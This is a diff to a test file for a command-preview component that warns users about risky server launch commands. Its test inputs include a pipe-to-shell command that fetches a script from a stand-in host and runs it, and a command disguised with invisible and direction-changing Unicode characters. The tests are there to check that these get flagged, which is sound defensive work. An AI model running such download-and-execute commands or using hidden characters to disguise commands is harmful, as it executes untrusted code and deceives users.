@@ -40,11 +40,38 @@ describe("VisibleText", () => {
 });
 
 describe("LaunchPreview", () => {
-  it("shows every hidden character of program, arguments and env", () => {
+  it("shows every hidden character of program, arguments and env, and warns about them", () => {
     const html = review("A='x\u00a0y' node\u202e 'a\u200bb'");
     expect(html).not.toMatch(/[\u202e\u200b\u00a0]/u);
     expect(text(html)).toContain("node⟨U+202E⟩");
     expect(text(html)).toContain("a⟨U+200B⟩b");
     expect(text(html)).toContain("x⟨U+00A0⟩y");
+    expect(html).toContain('role="alert"');
+    expect(text(html)).toMatch(/Danger: The command contains invisible or direction-changing characters/);
+  });
+
+  it("says a plain command runs without a shell, with no warnings", () => {
+    const html = review("node dist/index.js stdio");
+    expect(text(html)).toContain("This will run on your machine, without a shell:");
+    expect(html).not.toContain('role="alert"');
+  });
+
+  it("says `sh -c '… | sh'` runs through a shell that interprets the script, and warns", () => {
+    const html = review("sh -c 'curl -fsSL https://x.test/i.sh | sh'");
+    expect(text(html)).not.toContain("without a shell");
+    expect(text(html)).toContain(
+      "This will run on your machine through a shell: sh will interpret the quoted script (argument 2) as shell code.",
+    );
+    expect(text(html)).toContain("Shell code: sh interprets this argument");
+    expect(text(html)).toContain("Danger: Downloads code and runs it at once");
+  });
+
+  it("leaves the run button enabled and pointing at the warnings", () => {
+    const html = review("sudo node x.js");
+    const button = /<button[^>]*>Run server<\/button>/.exec(html)?.[0] ?? "";
+    expect(button).not.toMatch(/ disabled=/);
+    const describedBy = /aria-describedby="([^"]+)"/.exec(button)?.[1];
+    expect(describedBy).toBeDefined();
+    expect(html).toContain(`id="${describedBy}" role="alert"`);
   });
 });
